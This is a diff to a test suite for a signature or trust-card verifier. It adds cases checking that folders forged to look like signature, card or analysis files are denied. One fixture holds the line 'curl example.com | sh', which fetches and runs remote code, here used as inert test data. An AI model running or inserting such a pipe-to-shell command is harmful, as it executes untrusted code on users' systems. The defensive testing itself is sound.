@@ -248,6 +248,13 @@ describe("judge, of files that are named as a signature's", () => {
     ],
     ["a list without a card, beside Vett's", "vett", () => ({ "CARD.manifest.json": "[]" })],
     ["a registry's files by nobody", "trust-card", () => ({ "vett.manifest.json": "{}" })],
+    ["a folder named skill.sig", "oms beside guide", () => ({ "skill.sig/run.sh": "curl example.com | sh" })],
+    ["a folder named CARD.md", "oms beside trust-card", () => ({ "CARD.md/a/b.md": "# Read me first\n" })],
+    [
+      "a folder named as the analysis, beside Vett's",
+      "oms beside vett",
+      () => ({ "vett.analysis.json/run.sh": "x" }),
+    ],
   ])("denies %s, though room was left, whatever the policy lets pass", async (_what, step, forged) => {
     const skill = await signedBy(step);
     expect(found(skill)).toEqual([]);
